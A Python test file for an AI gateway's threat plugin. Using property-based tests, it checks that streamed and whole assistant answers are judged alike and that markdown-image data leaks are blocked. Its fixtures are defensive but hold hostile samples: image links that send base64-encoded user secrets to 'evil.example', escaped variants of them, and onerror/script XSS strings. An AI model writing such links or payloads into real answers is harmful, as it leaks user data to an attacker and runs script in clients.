"""What a client shows is judged alike, whole or streamed, whatever it is and however it is cut."""

from __future__ import annotations

from functools import cache
from itertools import pairwise
from typing import Final

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from gateway.plugin import Budget, Reject, Runtime, TextStream
from gateway.plugin.testing import make_exchange, make_response
from gateway.scan.binding import bind_scanners
from gateway_plugins.threat import Threats
from gateway_plugins.threat.place import ANSWERS, place_of

KINDS: Final = [
    "text", "system", "reasoning", "refusal", "tool_description", "other", "raw",
]  # fmt: skip
HEADS: Final = ["", " ", "[Note] ", '"Note" ', "{x} ", '{"a":"', "\n[1] "]
URL: Final = "https://evil.example/c?data=c2VjcmV0LWtleS1vZi10aGUtdXNlci0xMjM0NTY3ODkw"
LEAK: Final = f"![a\\nb]({URL})"
PARTS: Final = [
    LEAK, f"![a]({URL})", f"![a\nb]({URL})", f"\\u0021[a]({URL})", f"[a\\nb]({URL}A1b2C3d4E5f6)",
    f"<img\\nsrc={URL}>", f"![a]({URL.replace('/', chr(92) + '/')})", "<img src='x' one",
    "\\u0072ror=alert(1)>", "\\<script>alert(1)</script>", "`", "```\n", "\n", "\\", "\\\\",
    "\\u00", " see ", '"', "<b>", "\t", "\xa0", "\r\n", "    ", "~~~\n", "a", "``",
]  # fmt: skip
TEXTS: Final = st.builds(
    lambda head, parts: head + "".join(parts),
    st.sampled_from(HEADS),
    st.lists(st.sampled_from(PARTS), max_size=5),
)


@cache
def plugin() -> Threats:
    made = Threats(Threats.Config(), Runtime())
    bind_scanners([made])
    return made


def whole(text: str, kind: str) -> bool:
    """Whether a whole answer with this text is blocked."""
    made = plugin()
    scores = made._scores(ANSWERS, kind, text, Budget())
    return made._judged(ANSWERS, scores, []) is not None


def streamed(pieces: list[str], kind: str) -> tuple[str, Reject | None]:
    """What goes out of a channel that comes in these pieces, and the refusal."""
    x = make_exchange()
    x.response = make_response(streamed=True)
    out = held = ""
    for number, piece in enumerate([*pieces, ""]):
        final = number == len(pieces)
        text = TextStream(
            "content:0", held + piece, final=final, role="assistant", kind=kind, fresh=len(held)
        )
        reject = plugin().on_text(x, text)
        if reject is not None:
            return out, reject
        cut = len(text.text) - (0 if final else text.held)
        out, held = out + text.text[:cut], text.text[cut:]
    return out, None


@given(TEXTS, st.sampled_from(KINDS), st.data())
@example(f"[Note] see {LEAK} ok", "text", None)
@example("[x] <img src='x' one\\u0072ror=alert(1)>", "text", None)
def test_a_stream_is_judged_as_the_whole_is(
    text: str, kind: str, data: st.DataObject | None
) -> None:
    cuts = [] if data is None else data.draw(st.lists(st.integers(0, len(text)), max_size=8))
    marks = [0, *sorted(cuts), len(text)]

    out, reject = streamed([text[start:stop] for start, stop in pairwise(marks)], kind)

    assert (reject is not None) == whole(text, kind)
    assert text.startswith(out)
    assert reject is not None or out == text


@pytest.mark.parametrize("kind", KINDS)
@pytest.mark.parametrize("head", HEADS)
def test_an_image_that_leaks_is_cut_whatever_the_answer_begins_with(head: str, kind: str) -> None:
    """A backslash and an `n` are two characters to whoever shows text, and a line end in JSON."""
    if kind == "raw" and head.strip():
        return
    out, reject = streamed(list(f"{head}see {LEAK} ok"), kind)

    assert reject is not None
    assert "evil.example" not in out


def test_all_that_a_client_shows_is_an_answer() -> None:
    assert {place_of(kind, "assistant", answering=True) for kind in KINDS} == {ANSWERS}
